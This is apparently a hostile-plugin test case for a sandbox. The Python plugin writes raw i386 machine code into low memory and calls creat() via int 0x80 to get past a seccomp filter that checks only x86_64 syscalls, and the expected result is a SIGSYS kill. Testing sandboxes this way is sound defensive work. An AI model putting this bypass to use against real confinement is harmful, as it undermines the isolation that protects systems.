# sandboxed: sandbox SIGSYS
# evidence: marker
import ctypes
import mmap

from hostile import Hostile

CREAT = 8


class Plugin(Hostile):
    def attack(self):
        # int 0x80 takes i386 numbers, past a filter that knows only x86_64: creat(path, 0644);
        # the path must lie below 4 GB
        low = 0x10000000
        libc = ctypes.CDLL(None)
        libc.mmap.restype = ctypes.c_void_p
        libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3, ctypes.c_long]
        libc.mmap(low, 4096, 7, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x10, -1, 0)
        path = self.config["drop"].encode() + b"/marker\0"
        ctypes.memmove(low + 1024, path, len(path))
        code = b"\x53\xb8" + CREAT.to_bytes(4, "little") + b"\xbb" + (low + 1024).to_bytes(4, "little")
        code += b"\xb9\xa4\x01\x00\x00\xcd\x80\x5b\xc3"
        ctypes.memmove(low, code, len(code))
        return ctypes.CFUNCTYPE(ctypes.c_int)(low)()
